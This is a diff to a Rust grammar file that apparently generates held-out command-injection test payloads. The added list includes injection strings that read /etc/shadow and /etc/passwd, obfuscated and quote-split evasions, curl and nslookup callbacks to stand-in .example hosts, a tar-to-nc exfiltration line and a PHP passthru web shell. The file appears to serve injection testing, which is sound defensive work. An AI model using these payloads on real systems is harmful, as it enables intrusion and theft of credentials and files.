@@ -3,9 +3,40 @@
 use super::grammar::Grammar;
 
 pub(crate) const HELD: Grammar = &[
-    ("v", &["", "«n»", "«id»", "a", "1"]),
     (
         "command",
+        &[
+            "«v»;od -c /etc/passwd",
+            "«v»|nl /etc/hosts",
+            "«v»&&tail -n «d» /var/log/syslog",
+            "«v»;cat</etc/shadow",
+            "«v»\nid\n",
+            "«v»;{ls,-la,/}",
+            "«v»;$(echo d2hvYW1p|base64 -d)",
+            "«v»;l\\s -la",
+            "«v»;u'n'ame -a",
+            "«v»||curl -s http://«id».example/$(whoami)",
+            "«v»`curl http://«id».example`",
+            "«v»%26%26whoami",
+            "«v»;/usr/bin/id;",
+            "«v»&&dir c:\\",
+            "«v»|net localgroup administrators",
+            "«v»& echo «id»>c:\\x.txt &",
+            "«v»;echo $PATH",
+            "«v»;test -f /etc/passwd && sleep «d»",
+            "«v»';whoami;'",
+            "«v»\"|ls -la|\"",
+            "«v»$(sleep ${IFS}«d»)",
+            "«v»;perl -e 'system(\"id\")'",
+            "«v»;tar cf - /etc | nc 10.0.0.«d» «n»",
+            "`nslookup «id».example`",
+            "<?php passthru($_REQUEST['x']); ?>",
+            "import os; os.popen('id').read()",
+        ],
+    ),
+    ("v", &["", "«n»", "«id»", "a", "1"]),
+    (
+        "command-seen",
         &[
             "«v»;«id»=«d»;uname -s;",
             "«v»|sort /etc/passwd",
